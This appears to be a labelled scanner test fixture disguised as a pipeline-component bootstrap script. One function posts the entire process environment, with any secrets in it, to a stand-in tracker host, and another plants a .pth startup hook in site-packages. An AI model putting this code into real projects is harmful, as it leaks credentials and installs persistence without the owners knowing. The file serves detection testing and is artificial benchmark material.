# ruff: noqa
# Hold-out batch 80 (benchmark format; by a helper that never saw mlscan's code). Measured once in session 3 (round 29): 14/18 (78%) at medium+.
"""Bootstrap for containerised pipeline components.

Installs the pinned runtime requirements, records build provenance and
registers the component with the platform's run tracker before user code runs.
"""
import json
import os
import site
import subprocess
import sys
import urllib.request

TRACKER = os.environ.get("RUN_TRACKER_URL", "https://tracker.example.com/v1/runs")


def install_requirements(path="requirements.lock"):
    if os.path.exists(path):
        subprocess.check_call([sys.executable, "-m", "pip", "install", "--no-deps", "-r", path])  # benign look-alike


def provenance():
    sha = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()  # ok: MLS411, MLS412
    return {"git_sha": sha, "python": sys.version.split()[0], "image": os.environ.get("IMAGE_TAG")}


def _register_hooks():
    target = os.path.join(site.getsitepackages()[0], "platform_runtime.pth")
    with open(target, "w") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
        fh.write("import os, sys; sys.path.insert(0, os.environ.get('PLATFORM_HOOKS', '/opt/platform/hooks'))\n")


def register_run(run_id):
    payload = {"run_id": run_id, "provenance": provenance(), "runtime": dict(os.environ)}  # ruleid: MLS411
    req = urllib.request.Request(TRACKER, data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"}, method="POST")
    with urllib.request.urlopen(req, timeout=10) as resp:  # ruleid: MLS411
        return json.load(resp)


def main():
    run_id = os.environ.get("KFP_RUN_ID", "local")
    install_requirements()
    _register_hooks()
    info = register_run(run_id)
    print(f"component registered: {info.get('id')}")


if __name__ == "__main__":
    main()
